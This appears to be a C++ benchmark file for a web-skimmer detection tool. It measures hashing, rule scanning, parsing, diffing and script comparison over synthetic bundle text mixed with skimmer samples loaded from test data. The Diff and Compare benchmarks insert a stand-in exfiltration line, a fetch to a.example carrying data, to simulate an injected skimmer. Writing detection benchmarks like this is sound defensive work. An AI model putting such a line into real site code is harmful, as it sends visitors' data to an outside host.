// How fast scripts are looked at, by what is done to them: a full look hashes every file and does
// no more where the hash is known; a new version is searched for facts and compared with the one
// before; a page is parsed for its inline scripts.
//
//   bench_script [--benchmark_filter=...]
//
// The text is made of the samples in tests/data (checkout code, analytics, skimmers) between filler
// in the style of bundlers, with names and numbers from a fixed seed: `plain` in lines, `minified`
// in one. `quiet` has no sample in it and is what most of a bundle is. The bytes of one pass are
// those of a large bundle, a few megabytes.

#include <tree_sitter/api.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <random>
#include <string>
#include <vector>

#include "absl/strings/str_cat.h"
#include "absl/strings/str_replace.h"
#include "agent/script/judge/behaviour.h"
#include "agent/script/judge/card_redaction.h"
#include "agent/script/judge/fact_finder.h"
#include "agent/script/judge/inline_scripts.h"
#include "agent/script/judge/script_judge.h"
#include "agent/script/judge/script_version.h"
#include "agent/script/judge/syntax_tree.h"
#include "agent/script/judge/text_diff.h"
#include "benchmark/benchmark.h"

extern "C" const TSLanguage* tree_sitter_javascript(void);

namespace skimwatch::script {
namespace {

constexpr size_t kTextBytes = size_t{4} << 20;
constexpr size_t kFillerBytes = 16 << 10;

enum class Style { kPlain, kMinified, kQuiet };

std::string Filler(std::mt19937& random, size_t bytes) {
  static const std::vector<std::string> words = {
      "module", "exports", "props",  "state",  "return",   "render", "target", "options",
      "length", "value",   "update", "parent", "children", "key",    "index",  "result"};
  const auto word = [&] { return words[random() % words.size()]; };
  std::string text;
  while (text.size() < bytes) {
    absl::StrAppend(&text, "function ", word(), random() % 100, "(e, t) {\n  var n = e.", word(),
                    ", r = t[", random() % 1000, "];\n  if (n && r !== '", word(),
                    "') return Object.assign({}, n, { ", word(), ": ", random() % 100000,
                    " });\n  for (var i = 0; i < n.length; i++) r.", word(), "(n[i], ", random(),
                    ");\n}\n");
  }
  return text;
}

std::vector<std::string> Samples() {
  std::vector<std::string> samples;
  for (const char* folder : {"skimmers", "benign_scripts"}) {
    for (const auto& entry : std::filesystem::directory_iterator(
             absl::StrCat(SKIMWATCH_SOURCE_DIR, "/tests/data/", folder))) {
      if (entry.path().extension() != ".js") continue;
      std::ifstream file(entry.path());
      samples.emplace_back(std::istreambuf_iterator<char>(file), std::istreambuf_iterator<char>());
    }
  }
  // A folder has no order.
  std::sort(samples.begin(), samples.end());
  return samples;
}

std::string MakeText(Style style) {
  std::mt19937 random(42);
  const std::vector<std::string> samples = Samples();
  std::string text;
  for (size_t i = 0; text.size() < kTextBytes; ++i) {
    text += Filler(random, kFillerBytes);
    if (style != Style::kQuiet && !samples.empty()) text += samples[i % samples.size()];
  }
  if (style == Style::kMinified) {
    // In one line, a comment would be all that there is.
    for (size_t at = text.find("//"); at != std::string::npos; at = text.find("//", at)) {
      const bool is_comment = at == 0 || text[at - 1] == '\n' || text[at - 1] == ' ';
      if (is_comment) {
        text.erase(at, text.find('\n', at) - at);
      } else {
        at += 2;
      }
    }
    text = absl::StrReplaceAll(text, {{"\n", ""}, {"  ", ""}, {" = ", "="}, {", ", ","}});
  }
  return text;
}

const std::string& TextOf(const benchmark::State& state) {
  static const auto& texts = *new std::vector<std::string>{
      MakeText(Style::kPlain), MakeText(Style::kMinified), MakeText(Style::kQuiet)};
  return texts[static_cast<size_t>(state.range(0))];
}

void SetFigures(benchmark::State& state, size_t bytes) {
  static const char* const names[] = {"plain", "minified", "quiet"};
  state.SetLabel(names[state.range(0)]);
  state.SetBytesProcessed(static_cast<int64_t>(state.iterations() * bytes));
}

// What a full look does with a file that is as it was.
void Hash(benchmark::State& state) {
  const std::string& text = TextOf(state);
  for (auto _ : state) benchmark::DoNotOptimize(Sha256(text));
  SetFigures(state, text.size());
}

// SHA-256 and the subresource-integrity hash.
void Version(benchmark::State& state) {
  const std::string& text = TextOf(state);
  for (auto _ : state) benchmark::DoNotOptimize(VersionOf(text));
  SetFigures(state, text.size());
}

// Facts with the card engine's part in them.
void Facts(benchmark::State& state) {
  const FactFinder finder;
  const std::string& text = TextOf(state);
  size_t facts = 0;
  for (auto _ : state) facts = finder.Find(text, 1000).size();
  state.counters["facts"] = static_cast<double>(facts);
  SetFigures(state, text.size());
}

void Redact(benchmark::State& state) {
  const std::string& text = TextOf(state);
  for (auto _ : state) benchmark::DoNotOptimize(RedactCards(text));
  SetFigures(state, text.size());
}

// All that a new version costs before it is compared.
void HashAndFacts(benchmark::State& state) {
  const FactFinder finder;
  const std::string& text = TextOf(state);
  for (auto _ : state) {
    benchmark::DoNotOptimize(VersionOf(text));
    benchmark::DoNotOptimize(finder.Find(text, 1000));
  }
  SetFigures(state, text.size());
}

// A statement put into the middle.
void Diff(benchmark::State& state) {
  std::string before = TextOf(state);
  before.resize(std::min(before.size(), kDiffTextBytesMax - 1024));
  std::string after = before;
  after.insert(after.find(';', after.size() / 2) + 1, "fetch('https://a.example/'+d);");
  for (auto _ : state) benchmark::DoNotOptimize(DiffTexts("a.js", before, after, 65536));
  SetFigures(state, before.size());
}

// The text as inline scripts of a page, one a filler's length, between markup.
void Inline(benchmark::State& state) {
  const std::string& text = TextOf(state);
  std::string page = "<!DOCTYPE html><html><body>";
  for (size_t at = 0; at < text.size(); at += 4096) {
    for (int row = 0; row < 20; ++row) {
      absl::StrAppend(&page, "<div class=\"row\"><a href=\"/p/", row, "\" onclick=\"go(", row,
                      ")\">text</a></div>");
    }
    absl::StrAppend(&page, "<script>", text.substr(at, 4096), "</script>");
  }
  size_t scripts = 0;
  for (auto _ : state) scripts = ExtractInlineScripts(page).size();
  state.counters["scripts"] = static_cast<double>(scripts);
  SetFigures(state, page.size());
}

// tree-sitter alone, and what the judge makes of it: its own tree, facts and shapes.
void ParserAlone(benchmark::State& state) {
  const std::string& text = TextOf(state);
  TSParser* parser = ts_parser_new();
  ts_parser_set_language(parser, tree_sitter_javascript());
  for (auto _ : state) {
    TSTree* tree =
        ts_parser_parse_string(parser, nullptr, text.data(), static_cast<uint32_t>(text.size()));
    benchmark::DoNotOptimize(tree);
    ts_tree_delete(tree);
  }
  ts_parser_delete(parser);
  SetFigures(state, text.size());
}

void ParseAndBehaviour(benchmark::State& state) {
  const std::string& text = TextOf(state);
  size_t facts = 0;
  for (auto _ : state) {
    const auto tree = SyntaxTree::Parse(text, {.bytes_max = text.size()});
    facts = FindBehaviour(*tree).size();
  }
  state.counters["facts"] = static_cast<double>(facts);
  SetFigures(state, text.size());
}

// Hash, rules and cheap facts: what every new version gets.
void FirstPass(benchmark::State& state) {
  const ScriptJudge judge({});
  const std::string& text = TextOf(state);
  for (auto _ : state) {
    benchmark::DoNotOptimize(Sha256(text));
    benchmark::DoNotOptimize(judge.FirstPass(text, 1000));
  }
  SetFigures(state, text.size());
}

// Hash and rules alone.
void Rules(benchmark::State& state) {
  YaraRules rules({});
  const std::string& text = TextOf(state);
  for (auto _ : state) {
    std::vector<RuleMatch> matches;
    benchmark::DoNotOptimize(Sha256(text));
    benchmark::DoNotOptimize(rules.Current()->Scan(text, absl::Seconds(60), matches));
  }
  SetFigures(state, text.size());
}

uint64_t PeakKib() {
  std::ifstream status("/proc/self/status");
  for (std::string line; std::getline(status, line);) {
    if (line.rfind("VmHWM:", 0) == 0) return std::stoull(line.substr(6));
  }
  return 0;
}

// Two versions of 3 MB, one with a statement put into the middle; `peak_mib` is the whole process.
void Compare(benchmark::State& state) {
  std::string before = TextOf(state).substr(0, 3'000'000);
  std::string after = before;
  after.insert(after.find(';', after.size() / 2) + 1, "fetch('https://a.example/'+d);");
  const ScriptJudge judge({});
  const auto facts_before = judge.FirstPass(before, 1000);
  const auto facts_after = judge.FirstPass(after, 1000);
  for (auto _ : state) {
    v1::ScriptChange change;
    change.set_change(v1::ScriptChange::CHANGE_CHANGED);
    *change.mutable_previous() = VersionOf(before);
    benchmark::DoNotOptimize(judge.Judge({.text = &before, .facts = &facts_before},
                                         {.text = &after, .facts = &facts_after}, change));
  }
  state.counters["peak_mib"] = static_cast<double>(PeakKib()) / 1024;
  SetFigures(state, before.size());
}

BENCHMARK(Compare)->DenseRange(0, 2)->Unit(benchmark::kMillisecond);
BENCHMARK(ParserAlone)->DenseRange(0, 2)->Unit(benchmark::kMillisecond);
BENCHMARK(ParseAndBehaviour)->DenseRange(0, 2)->Unit(benchmark::kMillisecond);
BENCHMARK(FirstPass)->DenseRange(0, 2)->Unit(benchmark::kMillisecond);
BENCHMARK(Rules)->DenseRange(0, 2)->Unit(benchmark::kMillisecond);
BENCHMARK(Hash)->Arg(0)->Unit(benchmark::kMillisecond);
BENCHMARK(Version)->Arg(0)->Unit(benchmark::kMillisecond);
BENCHMARK(Facts)->DenseRange(0, 2)->Unit(benchmark::kMillisecond);
BENCHMARK(Redact)->DenseRange(0, 2)->Unit(benchmark::kMillisecond);
BENCHMARK(HashAndFacts)->DenseRange(0, 2)->Unit(benchmark::kMillisecond);
BENCHMARK(Diff)->DenseRange(0, 1)->Unit(benchmark::kMillisecond);
BENCHMARK(Inline)->Arg(0)->Unit(benchmark::kMillisecond);

}  // namespace
}  // namespace skimwatch::script

BENCHMARK_MAIN();
